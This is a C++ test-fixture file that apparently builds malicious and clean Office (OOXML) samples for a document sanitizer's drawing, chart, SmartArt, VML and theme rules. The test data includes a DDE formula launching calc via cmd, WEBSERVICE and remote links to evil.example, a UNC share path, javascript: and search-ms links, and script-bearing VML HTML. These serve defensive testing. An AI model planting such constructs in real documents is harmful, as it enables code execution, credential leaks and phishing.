#include <string>

#include "tests/support/office_samples.h"
#include "tests/support/ooxml_snippets.h"

namespace mugai::testing {
namespace {

using B = OoxmlBuilder;
using namespace snippet;
using std::string;

const string kChartRoot =
    "<c:chartSpace xmlns:c=\"http://schemas.openxmlformats.org/drawingml/2006/chart\" "
    "xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\" "
    "xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\">";
B chart(const string& inner) {
  return word_with_part(text("x"), "O:chart", "word/charts/c.xml", "V:drawingml.chart+xml",
                        kChartRoot + inner + "</c:chartSpace>");
}
B chart_ex(const string& inner) {
  return word_with_part(text("x"), "M:2014/relationships/chartEx", "word/charts/x.xml",
                        "application/vnd.ms-office.chartex+xml",
                        "<cx:chartSpace xmlns:cx=\"http://schemas.microsoft.com/office/drawing/2014/chartex\" "
                        "xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\">" +
                            inner + "</cx:chartSpace>");
}
Buffer inner_book(const string& sheet) {
  return B::xlsx(sheet).build();
}
B chart_with_book(const string& external) {
  const Buffer book = inner_book(
      "<sheetData><row r=\"1\"><c r=\"A1\"><f>WEBSERVICE(\"http://evil.example/\")</f><v>42</v></c></row></sheetData>");
  B b = chart("<c:chart/>" + external);
  b.part("word/embeddings/b.xlsx", "V:spreadsheetml.sheet", string(book.begin(), book.end()));
  return b.relate("word/charts/c.xml", "rId1", "O:package", "../embeddings/b.xlsx");
}
B theme(const string& inner) {
  return word_with_part(text("x"), "O:theme", "word/theme/theme1.xml", "V:theme+xml",
                        "<a:theme xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\" "
                        "xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\">" +
                            inner + "</a:theme>");
}
B vml_sheet(const string& inner) {
  B b = B::xlsx("<sheetData/><legacyDrawing r:id=\"rId77\"/>");
  b.part("xl/drawings/v.vml", "V:vmlDrawing",
         "<xml xmlns:v=\"urn:schemas-microsoft-com:vml\" xmlns:o=\"urn:schemas-microsoft-com:office:office\" "
         "xmlns:x=\"urn:schemas-microsoft-com:office:excel\">" +
             inner + "</xml>");
  return b.relate(kSheet, "rId77", "O:vmlDrawing", "../drawings/v.vml");
}
// A sheet with a note in B2 and a drawing of the notes that is no XML.
B loose_notes(const string& vml) {
  B b = B::xlsx("<sheetData/><legacyDrawing r:id=\"rId77\"/>");
  b.part("xl/drawings/v.vml", "V:vmlDrawing", vml);
  b.relate(kSheet, "rId77", "O:vmlDrawing", "../drawings/v.vml");
  b.part("xl/comments1.xml", "V:spreadsheetml.comments+xml",
         "<comments" + string(kSheetNamespaces) +
             "><authors><author>a</author></authors><commentList><comment ref=\"B2\" "
             "authorId=\"0\"><text><t>remark</t></text></comment></commentList></comments>");
  return b.relate(kSheet, "rId78", "O:comments", "../comments1.xml");
}
string geometry(const string& guide) {
  return "<p:sp><p:spPr><a:custGeom><a:gdLst>" + guide + "</a:gdLst><a:pathLst/></a:custGeom></p:spPr></p:sp>";
}
string link(const string& attributes) {
  return "<w:r><w:drawing><wp:inline><wp:docPr id=\"1\" name=\"n\"><a:hlinkClick " + attributes +
         "/></wp:docPr></wp:inline></w:drawing></w:r>";
}
B word_link(const string& attributes, const char* where) {
  B b = B::docx(p(link(attributes)));
  return b.relate(kDoc, "rId9", "O:hyperlink", where, true);
}
const string kSmartArt =
    "<w:r><w:drawing><wp:inline><a:graphic><a:graphicData "
    "uri=\"http://schemas.openxmlformats.org/drawingml/2006/diagram\"><dgm:relIds "
    "xmlns:dgm=\"http://schemas.openxmlformats.org/drawingml/2006/diagram\" r:dm=\"rId11\" r:lo=\"rId12\" "
    "r:qs=\"rId13\" r:cs=\"rId14\"/></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>";
// SmartArt with its data, its layout where `whole`.
B smart_art(const string& point, bool whole) {
  const string ns =
      " xmlns:dgm=\"http://schemas.openxmlformats.org/drawingml/2006/diagram\" "
      "xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\" "
      "xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"";
  B b = B::docx(p(text("x") + kSmartArt));
  b.part(
      "word/diagrams/d.xml", "V:drawingml.diagramData+xml",
      "<dgm:dataModel" + ns + "><dgm:ptLst><dgm:pt modelId=\"1\">" + point + "</dgm:pt></dgm:ptLst></dgm:dataModel>");
  b.relate(kDoc, "rId11", "O:diagramData", "diagrams/d.xml");
  if (!whole) return b;
  b.part("word/diagrams/l.xml", "V:drawingml.diagramLayout+xml", "<dgm:layoutDef" + ns + "/>");
  b.part("word/diagrams/q.xml", "V:drawingml.diagramStyle+xml", "<dgm:styleDef" + ns + "/>");
  b.part("word/diagrams/c.xml", "V:drawingml.diagramColors+xml", "<dgm:colorsDef" + ns + "/>");
  b.relate(kDoc, "rId12", "O:diagramLayout", "diagrams/l.xml");
  b.relate(kDoc, "rId13", "O:diagramQuickStyle", "diagrams/q.xml");
  return b.relate(kDoc, "rId14", "O:diagramColors", "diagrams/c.xml");
}

}  // namespace

std::span<const Sample> drawing_samples() {
  static const std::vector<Sample> samples = {
      // Pictures
      {"ooxml/picture-effects",
       "a.docx",
       false,
       {"DML-004"},
       {"imgProps", "imgLayer"},
       {"a:blip"},
       [] {
         return word(
             picture("<a:blip><a:extLst><a:ext uri=\"{BEBA8EAE-BF5A-486C-A8C5-ECC9F3942E4B}\"><q:imgProps "
                     "xmlns:q=\"http://schemas.microsoft.com/office/drawing/2010/main\"><q:imgLayer "
                     "r:embed=\"rId9\"/></q:imgProps></a:ext></a:extLst></a:blip>"));
       }},
      {"ooxml/picture-effects-part",
       "a.docx",
       false,
       {"DML-004"},
       {"PAYLOAD"},
       {"visible"},
       [] {
         return word_with_part(text("visible"), "M:2007/relationships/hdphoto", "word/media/image1.png",
                               "image/vnd.ms-photo", "PAYLOAD")
             .build();
       }},
      {"ooxml/picture-crop",
       "a.docx",
       false,
       {"DML-005"},
       {},
       {"a:srcRect"},
       [] { return word(picture("<a:blip/><a:srcRect l=\"10000\"/>")); }},
      {"ooxml/picture-crop-slide",
       "a.pptx",
       false,
       {"DML-005"},
       {},
       {"a:srcRect"},
       [] { return slide("<p:pic><p:blipFill><a:srcRect t=\"1\" b=\"50%\"/></p:blipFill></p:pic>", "").build(); }},
      {"ooxml/picture-crop-clean",
       "a.docx",
       false,
       {},
       {},
       {"a:srcRect"},
       [] { return word(picture("<a:blip/><a:srcRect/>")); }},
      {"ooxml/picture-source",
       "a.docx",
       false,
       {"DML-006"},
       {"picAttrSrcUrl", "evil.example"},
       {"a:blip"},
       [] {
         B b = B::docx(
             p(picture("<a:blip><a:extLst><a:ext uri=\"{837473B0-CC2E-450A-ABE3-18F120FF3D39}\"><q:picAttrSrcUrl "
                       "xmlns:q=\"http://schemas.microsoft.com/office/drawing/2016/11/main\" "
                       "r:id=\"rId9\"/></a:ext></a:extLst></a:blip>")));
         return b.relate(kDoc, "rId9", "O:imageSource", "http://evil.example/", true).build();
       }},
      {"ooxml/picture-source-lower",
       "a.docx",
       false,
       {"DML-006"},
       {"picAttrSrcUrl"},
       {"a:blip"},
       [] {
         return word(
             picture("<a:blip><a:extLst><a:ext uri=\"{837473b0-cc2e-450a-abe3-18f120ff3d39}\"><q:picAttrSrcUrl "
                     "xmlns:q=\"http://schemas.microsoft.com/office/drawing/2016/11/main\" "
                     "r:id=\"rId9\"/></a:ext></a:extLst></a:blip>"));
       }},
      {"ooxml/shape-link",
       "a.docx",
       false,
       {"DML-007", "GEN-010"},
       {"search-ms", "hlinkClick"},
       {"wp:docPr"},
       [] { return word_link("r:id=\"rId9\"", "search-ms:query=x").build(); }},
      {"ooxml/shape-link-invalid",
       "a.docx",
       false,
       {"DML-007"},
       {"invalidUrl", "tgtFrame", "cmd.exe"},
       {"hlinkClick", "example.jp"},
       [] {
         return word_link("r:id=\"rId9\" invalidUrl=\"file:///c:/cmd.exe\" tgtFrame=\"_top\"", "https://example.jp/")
             .build();
       }},
      {"ooxml/shape-link-clean",
       "a.docx",
       false,
       {},
       {},
       {"hlinkClick", "example.jp"},
       [] { return word_link("r:id=\"rId9\" tooltip=\"t\"", "https://example.jp/").build(); }},
      {"ooxml/description-path",
       "a.pptx",
       false,
       {"DML-008"},
       {"Users"},
       {"descr=\"photo.png\""},
       [] { return B::pptx(shape("", "3", " descr=\"C:\\Users\\taro\\photo.png\"")).build(); }},
      {"ooxml/description-share",
       "a.docx",
       false,
       {"DML-008"},
       {"fileserver"},
       {"title=\"plan.jpg\""},
       [] {
         return word(
             "<w:r><w:drawing><wp:inline><wp:docPr id=\"1\" name=\"n\" "
             "title=\"\\\\fileserver\\soumu\\plan.jpg\"/></wp:inline></w:drawing></w:r>");
       }},
      {"ooxml/description-clean",
       "a.pptx",
       false,
       {},
       {},
       {"A map: C and D"},
       [] { return B::pptx(shape("", "3", " descr=\"A map: C and D\"")).build(); }},
      // Charts
      {"ooxml/chart-update",
       "a.docx",
       false,
       {"DML-009", "OOXML-047"},
       {"autoUpdate", "evil.example"},
       {"c:externalData"},
       [] {
         return chart_with_book("<c:externalData r:id=\"rId1\"><c:autoUpdate val=\"1\"/></c:externalData>").build();
       }},
      {"ooxml/chart-update-default",
       "a.docx",
       false,
       {"DML-009"},
       {"autoUpdate"},
       {"c:externalData"},
       [] { return chart_with_book("<c:externalData r:id=\"rId1\"><c:autoUpdate/></c:externalData>").build(); }},
      {"ooxml/chart-remote",
       "a.docx",
       false,
       {"DML-009", "OOXML-048"},
       {"externalData", "evil.example"},
       {"c:chart/"},
       [] {
         B b = chart("<c:chart/><c:externalData r:id=\"rId1\"/>");
         return b.relate("word/charts/c.xml", "rId1", "O:package", "http://evil.example/b.xlsx", true).build();
       }},
      {"ooxml/chart-clean",
       "a.docx",
       false,
       {},
       {},
       {"autoUpdate val=\"0\"", "c:f>Sheet1!$A$1"},
       [] {
         const Buffer book = inner_book("<sheetData/>");
         B b = chart(
             "<c:chart><c:plotArea><c:barChart><c:ser><c:val><c:numRef><c:f>Sheet1!$A$1</c:f></c:numRef></c:val></"
             "c:ser></c:barChart></c:plotArea></c:chart><c:externalData r:id=\"rId1\"><c:autoUpdate "
             "val=\"0\"/></c:externalData>");
         b.part("word/embeddings/b.xlsx", "V:spreadsheetml.sheet", string(book.begin(), book.end()));
         return b.relate("word/charts/c.xml", "rId1", "O:package", "../embeddings/b.xlsx").build();
       }},
      {"ooxml/chart-ex",
       "a.docx",
       false,
       {"DML-010"},
       {"externalData", "evil.example", "geography"},
       {"cx:chart"},
       [] {
         B b = chart_ex(
             "<cx:chartData><cx:externalData r:id=\"rId1\" "
             "cx:autoUpdate=\"1\"/></"
             "cx:chartData><cx:chart><cx:plotArea><cx:plotAreaRegion><cx:series><cx:layoutPr><cx:geography "
             "cultureLanguage=\"en\"><cx:geoCache "
             "provider=\"x\"/></cx:geography></cx:layoutPr></cx:series></cx:plotAreaRegion></cx:plotArea></cx:chart>");
         return b.relate("word/charts/x.xml", "rId1", "O:package", "http://evil.example/b.xlsx", true).build();
       }},
      {"ooxml/chart-ex-cache",
       "a.docx",
       false,
       {"DML-010"},
       {"geoCache", "PAYLOAD"},
       {"cx:series"},
       [] {
         return chart_ex(
                    "<cx:chart><cx:plotArea><cx:plotAreaRegion><cx:series><cx:layoutPr><cx:geography><cx:geoCache "
                    "provider=\"{E9337A44}\"><cx:binary>PAYLOAD</cx:binary></cx:geoCache></cx:geography></"
                    "cx:layoutPr></cx:series></cx:plotAreaRegion></cx:plotArea></cx:chart>")
             .build();
       }},
      {"ooxml/chart-formula-dde",
       "a.docx",
       false,
       {"DML-011"},
       {"calc"},
       {"c:numCache"},
       [] {
         return chart(
                    "<c:chart><c:plotArea><c:barChart><c:ser><c:val><c:numRef><c:f>cmd|'/c "
                    "calc'!A0</c:f><c:numCache><c:ptCount "
                    "val=\"0\"/></c:numCache></c:numRef></c:val></c:ser></c:barChart></c:plotArea></c:chart>")
             .build();
       }},
      {"ooxml/chart-user-shapes",
       "a.docx",
       false,
       {"DML-012"},
       {"userShapes", "evil.example"},
       {"c:chart/"},
       [] {
         B b = chart("<c:chart/><c:userShapes r:id=\"rId1\"/>");
         return b.relate("word/charts/c.xml", "rId1", "O:chartUserShapes", "http://evil.example/d.xml", true).build();
       }},
      {"ooxml/chart-user-shapes-type",
       "a.docx",
       false,
       {"DML-012", "OOXML-005"},
       {"userShapes", "PAYLOAD"},
       {"c:chart/"},
       [] {
         B b = chart("<c:chart/><c:userShapes r:id=\"rId1\"/>");
         b.part("word/media/d.png", "image/png", "PAYLOAD");
         return b.relate("word/charts/c.xml", "rId1", "O:chartUserShapes", "../media/d.png").build();
       }},
      // SmartArt
      {"ooxml/smart-art-part",
       "a.docx",
       false,
       {"DML-013", "OOXML-012"},
       {"relIds"},
       {"x"},
       [] { return smart_art("", false).build(); }},
      {"ooxml/smart-art-link",
       "a.docx",
       false,
       {"DML-007", "GEN-010"},
       {"javascript", "hlinkClick"},
       {"dgm:relIds", "label"},
       [] {
         B b = smart_art(
             "<dgm:t><a:p><a:r><a:rPr><a:hlinkClick r:id=\"rId1\"/></a:rPr><a:t>label</a:t></a:r></a:p></dgm:t>", true);
         return b.relate("word/diagrams/d.xml", "rId1", "O:hyperlink", "javascript:x", true).build();
       }},
      {"ooxml/smart-art-external",
       "a.docx",
       false,
       {"DML-013"},
       {"relIds", "evil.example"},
       {"x"},
       [] {
         B b = smart_art("", true);
         return b.relate(kDoc, "rId15", "O:diagramData", "http://evil.example/d.xml", true)
             .replace(kDoc,
                      "<w:document" + string(kWordNamespaces) + "><w:body>" +
                          p(text("x") + "<w:r><w:drawing><wp:inline><a:graphic><a:graphicData "
                                        "uri=\"http://schemas.openxmlformats.org/drawingml/2006/diagram\"><dgm:relIds "
                                        "xmlns:dgm=\"http://schemas.openxmlformats.org/drawingml/2006/diagram\" "
                                        "r:dm=\"rId15\" r:lo=\"rId12\" r:qs=\"rId13\" "
                                        "r:cs=\"rId14\"/></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>") +
                          "</w:body></w:document>")
             .build();
       }},
      {"ooxml/smart-art-clean",
       "a.docx",
       false,
       {},
       {},
       {"dgm:relIds", "label"},
       [] { return smart_art("<dgm:t><a:p><a:r><a:t>label</a:t></a:r></a:p></dgm:t>", true).build(); }},
      // Shapes
      {"ooxml/text-box-clean",
       "a.docx",
       false,
       {},
       {},
       {"wps:txbx", "inside"},
       [] {
         return word(
             "<w:r><w:drawing><wp:inline><a:graphic><a:graphicData "
             "uri=\"http://schemas.microsoft.com/office/word/2010/"
             "wordprocessingShape\"><wps:wsp><wps:txbx><w:txbxContent>" +
             p(text("inside")) +
             "</w:txbxContent></wps:txbx></wps:wsp></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>");
       }},
      {"ooxml/guide-unknown",
       "a.pptx",
       false,
       {"DML-015"},
       {"exec"},
       {"custGeom"},
       [] { return slide(geometry("<a:gd name=\"g\" fmla=\"exec 1 2\"/>"), "").build(); }},
      {"ooxml/guide-long",
       "a.pptx",
       false,
       {"DML-015"},
       {"1111111111111111111111111111111111111111111111111111111111"},
       {"custGeom"},
       [] { return slide(geometry("<a:gd name=\"g\" fmla=\"val " + string(5000, '1') + "\"/>"), "").build(); }},
      {"ooxml/guide-clean",
       "a.pptx",
       false,
       {},
       {},
       {"*/ w adj 100000", "?: a b c"},
       [] {
         return slide(geometry("<a:gd name=\"g\" fmla=\"*/ w adj 100000\"/><a:gd name=\"h\" fmla=\"?: a b c\"/>"), "")
             .build();
       }},
      // VML
      {"ooxml/vml-field-codes",
       "a.docx",
       false,
       {"DML-018"},
       {"FieldCodes", "evil.example"},
       {"OLEObject"},
       [] {
         const Buffer book = inner_book("<sheetData/>");
         B b =
             B::docx(p("<w:r><w:object><v:shape id=\"s\"/><o:OLEObject Type=\"Embed\" ProgID=\"Excel.Sheet.12\" "
                       "ShapeID=\"s\" DrawAspect=\"Content\" ObjectID=\"1\" r:id=\"rId9\"><o:FieldCodes>LINK "
                       "http://evil.example/</o:FieldCodes></o:OLEObject></w:object></w:r>"));
         b.part("word/embeddings/b.xlsx", "V:spreadsheetml.sheet", string(book.begin(), book.end()));
         return b.relate(kDoc, "rId9", "O:package", "embeddings/b.xlsx").build();
       }},
      {"ooxml/vml-locked-field",
       "a.docx",
       false,
       {"DML-018"},
       {"LinkType", "LockedField"},
       {"OLEObject"},
       [] {
         const Buffer book = inner_book("<sheetData/>");
         B b = B::docx(
             p("<w:r><w:object><v:shape id=\"s\"/><o:OLEObject Type=\"Embed\" ProgID=\"Excel.Sheet.12\" ShapeID=\"s\" "
               "r:id=\"rId9\"><o:LinkType>EnhancedMetaFile</o:LinkType><o:LockedField>false</o:LockedField></"
               "o:OLEObject></w:object></w:r>"));
         b.part("word/embeddings/b.xlsx", "V:spreadsheetml.sheet", string(book.begin(), book.end()));
         return b.relate(kDoc, "rId9", "O:package", "embeddings/b.xlsx").build();
       }},
      {"ooxml/vml-ink",
       "a.docx",
       false,
       {"DML-020"},
       {"o:ink", "QUJD"},
       {"v:shape"},
       [] { return word("<w:r><w:pict><v:shape><o:ink i=\"QUJD\" annotation=\"t\"/></v:shape></w:pict></w:r>"); }},
      {"ooxml/vml-ink-sheet",
       "a.xlsx",
       false,
       {"DML-020"},
       {":ink", "QUJD"},
       {"v:shape"},
       [] { return vml_sheet("<v:shape><o:ink i=\"QUJD\"></o:ink></v:shape>").build(); }},
      {"ooxml/vml-html",
       "a.xlsx",
       false,
       {"DML-021"},
       {"onclick", "<script", "evil"},
       {"bold"},
       [] {
         return vml_sheet(
                    "<v:shape><v:textbox><div style='text-align:left' onclick='evil()'><font "
                    "face=\"x\">bold</font><script>evil()</script></div></v:textbox></v:shape>")
             .build();
       }},
      {"ooxml/vml-html-style",
       "a.xlsx",
       false,
       {"DML-021"},
       {"expression", "evil.example"},
       {"note"},
       [] {
         return vml_sheet(
                    "<v:shape><v:textbox><div "
                    "style='background:url(http://evil.example/);width:expression(x)'>note</div></v:textbox></v:shape>")
             .build();
       }},
      {"ooxml/vml-html-clean",
       "a.xlsx",
       false,
       {},
       {},
       {"text-align:left", "note"},
       [] {
         return vml_sheet(
                    "<v:shape><v:textbox style='mso-direction-alt:auto'><div style='text-align:left'><font face=\"MS P "
                    "Gothic\" size=\"180\">note</font></div></v:textbox></v:shape>")
             .build();
       }},
      {"ooxml/vml-loose",
       "a.xlsx",
       false,
       {"DML-022"},
       {"loose"},
       {"remark", "<x:Row>1</x:Row>", "<x:Column>1</x:Column>"},
       [] {
         return loose_notes(
                    "<xml "
                    "xmlns:v=\"urn:schemas-microsoft-com:vml\"><v:shape><v:textbox>loose<br></v:textbox></v:shape></"
                    "xml>")
             .build();
       }},
      {"ooxml/vml-garbage",
       "a.xlsx",
       false,
       {"DML-022"},
       {"MZ-not-xml"},
       {"remark", "<x:Row>1</x:Row>"},
       [] { return loose_notes("MZ-not-xml").build(); }},
      {"ooxml/vml-loose-alone",
       "a.xlsx",
       false,
       {"DML-022"},
       {"legacyDrawing", "loose"},
       {"sheetData"},
       [] {
         B b = B::xlsx("<sheetData/><legacyDrawing r:id=\"rId77\"/>");
         b.part("xl/drawings/v.vml", "V:vmlDrawing", "<xml>loose<br></xml>");
         return b.relate(kSheet, "rId77", "O:vmlDrawing", "../drawings/v.vml").build();
       }},
      // Themes and backgrounds
      {"ooxml/theme-picture",
       "a.docx",
       false,
       {"DML-023", "DML-001"},
       {"evil.example"},
       {"a:bgFillStyleLst"},
       [] {
         B b = theme(
             "<a:themeElements><a:fmtScheme><a:bgFillStyleLst><a:blipFill><a:blip "
             "r:link=\"rId1\"/></a:blipFill></a:bgFillStyleLst></a:fmtScheme></a:themeElements>");
         return b.relate("word/theme/theme1.xml", "rId1", "O:image", "http://evil.example/a.png", true).build();
       }},
      {"ooxml/slide-background",
       "a.pptx",
       false,
       {"DML-023", "DML-002"},
       {"evil.example"},
       {"p:bg"},
       [] {
         B b = B::pptx("");
         b.replace(kSlide, "<p:sld" + string(kSlideNamespaces) +
                               "><p:cSld><p:bg><p:bgPr><a:blipFill><a:blip "
                               "r:embed=\"rId9\"/></a:blipFill></p:bgPr></p:bg><p:spTree/></p:cSld></p:sld>");
         return b.relate(kSlide, "rId9", "O:image", "\\\\evil.example\\a.png", true).build();
       }},
      {"ooxml/slide-background-clean",
       "a.pptx",
       false,
       {},
       {},
       {"p:bg", "rId9"},
       [] {
         B b = B::pptx("");
         b.replace(kSlide, "<p:sld" + string(kSlideNamespaces) +
                               "><p:cSld><p:bg><p:bgPr><a:blipFill><a:blip "
                               "r:embed=\"rId9\"/></a:blipFill></p:bgPr></p:bg><p:spTree/></p:cSld></p:sld>");
         b.part("ppt/media/b.png", "", small_png_clean());
         b.extension("png", "image/png");
         return b.relate(kSlide, "rId9", "O:image", "../media/b.png").build();
       }},
      {"ooxml/theme-extension",
       "a.docx",
       false,
       {"DML-024"},
       {"PAYLOAD"},
       {"objectDefaults"},
       [] {
         return theme(
                    "<a:themeElements/><a:objectDefaults/><a:extLst><a:ext "
                    "uri=\"{00000000-1111-4222-8333-444444444444}\"><z:x "
                    "xmlns:z=\"urn:z\">PAYLOAD</z:x></a:ext></a:extLst>")
             .build();
       }},
      {"ooxml/theme-extension-deep",
       "a.docx",
       false,
       {"DML-024"},
       {"PAYLOAD"},
       {"a:spDef"},
       [] {
         return theme(
                    "<a:themeElements/><a:objectDefaults><a:spDef><a:spPr/><a:bodyPr/><a:lstStyle/><a:extLst><a:ext "
                    "uri=\"urn:x\">PAYLOAD</a:ext></a:extLst></a:spDef></a:objectDefaults>")
             .build();
       }},
  };
  return samples;
}

}  // namespace mugai::testing
